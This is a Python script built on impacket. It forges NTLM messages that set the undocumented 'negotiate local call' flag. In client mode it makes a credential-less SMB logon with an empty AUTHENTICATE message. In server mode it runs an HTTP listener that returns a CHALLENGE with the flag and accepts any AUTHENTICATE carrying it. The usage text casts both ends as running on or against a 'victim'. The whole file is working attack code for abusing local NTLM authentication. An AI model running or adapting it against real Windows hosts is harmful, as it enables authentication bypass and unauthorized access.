"""Both ends of an NTLM logon that its host takes for local, as Windows does when the names in a NEGOTIATE
are its own (flag 0x4000, "negotiate local call", in no Microsoft document but in every implementation):
the CHALLENGE has the flag, the AUTHENTICATE has it too and is empty otherwise.

usage: local_call.py server ADDRESS PORT      a web server on the victim
       local_call.py client ADDRESS           the victim's SMB client, sent to ADDRESS
"""

import base64
import os
import socket
import struct
import sys
import threading

from impacket import ntlm
from impacket.smbconnection import SMBConnection

from ntlm_server import NtlmServer
from rpc_proxy import read_head

NAME = os.environ["SRV_NAME"].upper()
LOCAL_CALL = 0x4000
NEGOTIATE_FLAGS = 0xE208B297  # as Windows sends them when it supplies domain and workstation
AUTHENTICATE_FLAGS = 0xE288C215
VERSION = bytes((10, 0, 0x7C, 0x4F, 0, 0, 0, 15))


class LocalServer(NtlmServer):
    def make_challenge(self, client_flags):
        length, _, start = struct.unpack_from("<HHI", self.negotiate, 24)
        challenge = bytearray(super().make_challenge(client_flags))
        if self.negotiate[start : start + length] == NAME.encode():
            flags = struct.unpack_from("<I", challenge, 20)[0] | LOCAL_CALL
            struct.pack_into("<I", challenge, 20, flags)
        self.challenge = bytes(challenge)
        return self.challenge

    def verify(self, token):
        self.ok = bool(struct.unpack_from("<I", token, 60)[0] & LOCAL_CALL)


class Message:
    def __init__(self, data, flags):
        self.data, self.flags = data, flags

    def getData(self):
        return self.data

    def __getitem__(self, name):
        return getattr(self, name)


def negotiate(*_, **__):
    domain, name = os.environ["DOMAIN"].encode(), NAME.encode()
    fields = struct.pack("<HHI", len(domain), len(domain), 40 + len(name))
    fields += struct.pack("<HHI", len(name), len(name), 40)
    data = b"NTLMSSP\0" + struct.pack("<II", 1, NEGOTIATE_FLAGS) + fields + VERSION
    return Message(data + name + domain, NEGOTIATE_FLAGS)


def authenticate(*_, **__):
    empty = struct.pack("<HHI", 0, 0, 88)
    data = b"NTLMSSP\0" + struct.pack("<I", 3) + 6 * empty + struct.pack("<I", AUTHENTICATE_FLAGS)
    return Message(data + VERSION + bytes(16), AUTHENTICATE_FLAGS), bytes(16)


def serve(connection):
    stream = connection.makefile("rb")
    exchange = LocalServer(NAME)
    try:
        while True:
            _, _, headers = read_head(stream)
            scheme, _, token = headers.get("authorization", "").partition(" ")
            offer = "NTLM"
            if token:
                challenge = exchange.step(base64.b64decode(token))
                offer += " " + base64.b64encode(challenge).decode() if challenge else ""
            status = "200 OK" if exchange.ok else f"401 Unauthorized\r\nWWW-Authenticate: {offer}"
            connection.sendall(f"HTTP/1.1 {status}\r\nContent-Length: 0\r\n\r\n".encode())
    except (OSError, EOFError, ValueError):
        pass
    finally:
        connection.close()


def main():
    if sys.argv[1] == "client":
        ntlm.getNTLMSSPType1, ntlm.getNTLMSSPType3 = negotiate, authenticate
        SMBConnection(sys.argv[2], sys.argv[2], timeout=8).login("", "", os.environ["DOMAIN"])
        return
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind((sys.argv[2], int(sys.argv[3])))
    listener.listen(8)
    while True:
        connection, _ = listener.accept()
        threading.Thread(target=serve, args=(connection,), daemon=True).start()


if __name__ == "__main__":
    main()
